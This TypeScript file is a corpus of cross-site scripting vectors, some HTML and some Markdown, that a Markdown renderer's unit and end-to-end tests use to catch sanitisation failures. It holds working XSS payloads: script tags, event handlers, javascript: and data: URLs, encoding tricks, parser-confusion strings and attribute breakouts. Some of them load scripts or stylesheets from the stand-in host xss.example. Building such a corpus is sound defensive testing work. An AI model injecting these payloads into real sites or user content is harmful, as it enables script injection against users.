/**
 * Script-injection vectors, in the spirit of the OWASP XSS Filter Evasion Cheat Sheet plus the
 * Markdown-specific ones (link and image destinations, reference definitions, autolinks).
 *
 * Shared by the unit tests of the Markdown renderer and by end-to-end tests that type every
 * vector into every text field of the forms. Each payload that could run calls `alert(1)` (or
 * loads something from xss.example), so an end-to-end test can fail on any dialog
 * (`page.on('dialog')`) and on any request that leaves the origin.
 *
 * Control characters are written as escapes so that this file stays readable and diffable.
 */

export interface XssVector {
  /** Short, unique: shown in test names. */
  name: string;
  payload: string;
}

/** A data: URL of an HTML page running alert(1) (`<script>alert(1)</script>`, base64). */
const DATA_HTML = 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';

/** `javascript:alert('XSS')` as decimal character references, the cheat sheet's classic. */
const JS_DECIMAL = '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;';
/** The same with zero-padded decimal references and no semicolons. */
const JS_DECIMAL_PADDED = '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041';
/** The same as hexadecimal references without semicolons. */
const JS_HEX = '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29';

const html: XssVector[] = [
  // Script elements
  { name: 'script element', payload: '<script>alert(1)</script>' },
  { name: 'script, upper case, external src', payload: '<SCRIPT SRC=//xss.example/xss.js></SCRIPT>' },
  { name: 'script split by a nested script', payload: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script with extra open bracket', payload: '<<SCRIPT>alert(1);//<</SCRIPT>' },
  { name: 'script unclosed', payload: '<script>alert(1)' },
  { name: 'script with no closing bracket', payload: '<SCRIPT SRC=http://xss.example/xss.js?< B >' },
  { name: 'script with slash attribute separator', payload: '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>' },

  // Event handlers
  { name: 'img onerror', payload: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror, no closing bracket', payload: '<img src=x onerror=alert(1)' },
  { name: 'img onerror with slash separators', payload: '<img/src=x/onerror=alert(1)>' },
  { name: 'img onerror evaluating src', payload: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { name: 'svg onload', payload: '<svg onload=alert(1)>' },
  { name: 'svg/onload without space', payload: '<svg/onload=alert(1)>' },
  { name: 'body onload', payload: '<body onload=alert(1)>' },
  { name: 'details ontoggle', payload: '<details open ontoggle=alert(1)>' },
  { name: 'input autofocus onfocus', payload: '<input autofocus onfocus=alert(1)>' },
  { name: 'custom element onclick', payload: '<x-shop onclick=alert(1)>click</x-shop>' },
  { name: 'video source onerror', payload: '<video><source onerror=alert(1)></video>' },
  { name: 'marquee onstart', payload: '<marquee onstart=alert(1)>' },
  { name: 'event handler with entity-encoded code', payload: '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">' },
  { name: 'p with onmouseover and tab separator', payload: '<p\tonmouseover=alert(1)>hover</p>' },

  // javascript: and friends in attributes
  { name: 'img src javascript:', payload: `<IMG SRC="javascript:alert('XSS');">` },
  { name: 'img src JaVaScRiPt:', payload: `<IMG SRC=JaVaScRiPt:alert('XSS')>` },
  { name: 'img src in backticks', payload: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>' },
  { name: 'img src decimal references', payload: `<IMG SRC=${JS_DECIMAL}>` },
  { name: 'img src padded decimal references', payload: `<IMG SRC=${JS_DECIMAL_PADDED}>` },
  { name: 'img src hex references', payload: `<IMG SRC=${JS_HEX}>` },
  { name: 'img src with encoded tab', payload: `<IMG SRC="jav&#x09;ascript:alert('XSS');">` },
  { name: 'img src with encoded newline', payload: `<IMG SRC="jav&#x0A;ascript:alert('XSS');">` },
  { name: 'img src with encoded carriage return', payload: `<IMG SRC="jav&#x0D;ascript:alert('XSS');">` },
  { name: 'img src with leading spaces and meta char', payload: `<IMG SRC=" &#14;  javascript:alert('XSS');">` },
  { name: 'a href javascript:', payload: '<a href="javascript:alert(1)">click</a>' },
  { name: 'a href with leading control character', payload: '<a href="\u0001javascript:alert(1)">click</a>' },
  { name: 'a href with NUL inside the scheme', payload: '<a href="java\u0000script:alert(1)">click</a>' },
  { name: 'a href hex-encoded j', payload: '<a href="&#x6A;avascript:alert(1)">click</a>' },
  { name: 'a href vbscript:', payload: '<a href="vbscript:msgbox(1)">click</a>' },
  { name: 'a href data: HTML', payload: `<a href="${DATA_HTML}">click</a>` },
  { name: 'object data:', payload: `<object data="${DATA_HTML}"></object>` },
  { name: 'embed src data:', payload: `<embed src="${DATA_HTML}">` },
  { name: 'iframe src javascript:', payload: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', payload: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'iframe unclosed', payload: '<iframe src=javascript:alert(1)' },
  { name: 'form action javascript:', payload: '<form action="javascript:alert(1)"><button>send</button></form>' },
  { name: 'button formaction', payload: '<button formaction="javascript:alert(1)">send</button>' },
  { name: 'meta refresh', payload: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', payload: '<base href="javascript:alert(1)//">' },
  { name: 'link stylesheet', payload: '<link rel="stylesheet" href="http://xss.example/xss.css">' },
  { name: 'svg a xlink:href', payload: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>' },
  { name: 'math href', payload: '<math href="javascript:alert(1)">click</math>' },

  // Style
  { name: 'style element import', payload: `<style>@import 'http://xss.example/xss.css';</style>` },
  { name: 'style attribute url()', payload: '<div style="background-image: url(javascript:alert(1))">x</div>' },
  { name: 'style attribute expression()', payload: '<div style="width: expression(alert(1))">x</div>' },

  // Parser confusion (mutation XSS)
  { name: 'noscript title breakout', payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'math/style namespace confusion', payload: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'svg inside template', payload: '<template><svg onload=alert(1)></svg></template>' },
  { name: 'textarea breakout', payload: '<textarea></textarea><script>alert(1)</script>' },
  { name: 'xmp breakout', payload: '<xmp><script>alert(1)</script></xmp>' },
  { name: 'plaintext element', payload: '<plaintext><script>alert(1)</script>' },

  // Comments and CDATA
  { name: 'HTML comment hiding a script', payload: '<!--<script>alert(1)</script>-->' },
  { name: 'bogus comment close', payload: '<!-- --!><script>alert(1)</script> -->' },
  { name: 'conditional comment', payload: '<!--[if IE]><script>alert(1)</script><![endif]-->' },
  { name: 'comment closed early by the parser', payload: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'CDATA section', payload: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'CDATA inside svg', payload: '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>' },
  { name: 'processing instruction', payload: '<?xml version="1.0"?><script>alert(1)</script>' },

  // Breaking out of an attribute the text might be placed in
  { name: 'double quote breakout', payload: '"><script>alert(1)</script>' },
  { name: 'single quote breakout', payload: `'><img src=x onerror=alert(1)>` },
  { name: 'backtick breakout', payload: '`><svg onload=alert(1)>' },
  { name: 'attribute injection without brackets', payload: '" onmouseover="alert(1)" x="' },
  { name: 'closing a textarea or title', payload: '</textarea></title><script>alert(1)</script>' }
];

const markdown: XssVector[] = [
  // Inline links
  { name: 'md link javascript:', payload: '[click](javascript:alert(1))' },
  { name: 'md link JaVaScRiPt:', payload: '[click](JaVaScRiPt:alert(1))' },
  { name: 'md link encoded tab in scheme', payload: '[click](jav&#x09;ascript:alert(1))' },
  { name: 'md link encoded colon', payload: '[click](javascript&#58;alert(1))' },
  { name: 'md link named colon', payload: '[click](javascript&colon;alert(1))' },
  { name: 'md link encoded first letter', payload: '[click](&#106;avascript:alert(1))' },
  { name: 'md link in angle brackets with tab', payload: '[click](<jav\tascript:alert(1)>)' },
  { name: 'md link with leading spaces', payload: '[click](   javascript:alert(1))' },
  { name: 'md link with escaped characters', payload: '[click](javascript\\:alert\\(1\\))' },
  { name: 'md link vbscript:', payload: '[click](vbscript:msgbox(1))' },
  { name: 'md link data: base64 HTML', payload: `[click](${DATA_HTML})` },
  { name: 'md link data: HTML', payload: '[click](data:text/html,<script>alert(1)</script>)' },
  { name: 'md link protocol-relative', payload: '[click](//xss.example/)' },
  { name: 'md link backslash host', payload: '[click](/\\xss.example/)' },
  { name: 'md link dot-slash-slash host', payload: '[click](/.//xss.example/)' },
  { name: 'md link title breaking quotes', payload: '[click](https://example.com "a\\" onmouseover=\\"alert(1)")' },
  { name: 'md link destination breaking quotes', payload: '[click](https://example.com"onmouseover="alert(1))' },
  { name: 'md link destination breaking single quotes', payload: `[click](https://example.com'onmouseover='alert(1))` },

  // Reference-style links
  { name: 'md reference link', payload: '[click][1]\n\n[1]: javascript:alert(1)' },
  { name: 'md reference link with title', payload: '[click][x]\n\n[x]: javascript:alert(1) "title"' },
  { name: 'md collapsed reference', payload: '[click][]\n\n[click]: vbscript:msgbox(1)' },
  { name: 'md shortcut reference', payload: `[click]\n\n[click]: ${DATA_HTML}` },
  { name: 'md reference image', payload: '![x][img]\n\n[img]: javascript:alert(1)' },

  // Autolinks
  { name: 'md autolink javascript:', payload: '<javascript:alert(1)>' },
  { name: 'md autolink vbscript:', payload: '<vbscript:msgbox(1)>' },
  { name: 'md autolink data:', payload: `<${DATA_HTML}>` },
  { name: 'md autolink upper-case JAVASCRIPT:', payload: '<JAVASCRIPT:alert(1)>' },
  { name: 'gfm bare URL with quotes', payload: 'www.example.com/"onmouseover="alert(1)' },
  { name: 'gfm bare URL with angle brackets', payload: 'https://example.com/<script>alert(1)</script>' },
  { name: 'bare javascript: text', payload: 'javascript:alert(1)' },

  // Images
  { name: 'md image javascript:', payload: '![x](javascript:alert(1))' },
  { name: 'md image data: svg', payload: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'md image third-party', payload: '![x](https://xss.example/pixel.gif)' },
  { name: 'md image protocol-relative', payload: '![x](//xss.example/pixel.gif)' },
  { name: 'md image alt breaking quotes', payload: '![x" onerror="alert(1)](/media/photo.webp)' },
  { name: 'md image src breaking quotes', payload: '![x](/media/photo.webp"onerror="alert(1))' },
  { name: 'md image title breaking quotes', payload: '![x](/media/photo.webp "t\\" onerror=\\"alert(1)")' },
  { name: 'md image path traversal out of /media/', payload: '![x](/media/../api/catalog)' },

  // Markdown and HTML combined
  { name: 'script inside strong', payload: '**<script>alert(1)</script>**' },
  { name: 'img onerror as link text', payload: '[<img src=x onerror=alert(1)>](https://example.com)' },
  { name: 'iframe in a blockquote', payload: '> <iframe src=javascript:alert(1)>' },
  { name: 'svg in a list item', payload: '- <svg/onload=alert(1)>' },
  { name: 'heading with an event handler', payload: '# <h1 onclick=alert(1)>title</h1>' },
  { name: 'script in a code span', payload: '`<script>alert(1)</script>`' },
  { name: 'script in a fenced block with a hostile info string', payload: '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```' },
  { name: 'script in an indented block', payload: '    <script>alert(1)</script>' },
  { name: 'image link, both javascript:', payload: '[![x](javascript:alert(1))](javascript:alert(1))' },
  { name: 'Markdown link inside an HTML link', payload: '<a href="https://example.com">[x](javascript:alert(1))</a>' },
  { name: 'HTML link inside a Markdown link', payload: '[<a href="javascript:alert(1)">x</a>](https://example.com)' },
  { name: 'link followed by img onerror', payload: '[x](https://example.com)<img src=x onerror=alert(1)>' },
  { name: 'nested brackets', payload: '[[[x](javascript:alert(1))](javascript:alert(2))](javascript:alert(3))' },
  { name: 'HTML block hiding Markdown', payload: '<div onclick="alert(1)">\n\n[x](javascript:alert(1))\n\n</div>' },
  { name: 'emphasis splitting an attribute', payload: '<img src=x *onerror*=alert(1)> <a href="java*script*:alert(1)">x</a>' },
  { name: 'task list with a script', payload: '- [ ] <script>alert(1)</script>' },
  { name: 'table cell with a script', payload: '| a |\n|---|\n| <script>alert(1)</script> |' },
  { name: 'entity-encoded tags', payload: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;' }
];

/** Every vector, HTML first then Markdown. */
export const xssCorpus: readonly XssVector[] = [...html, ...markdown];
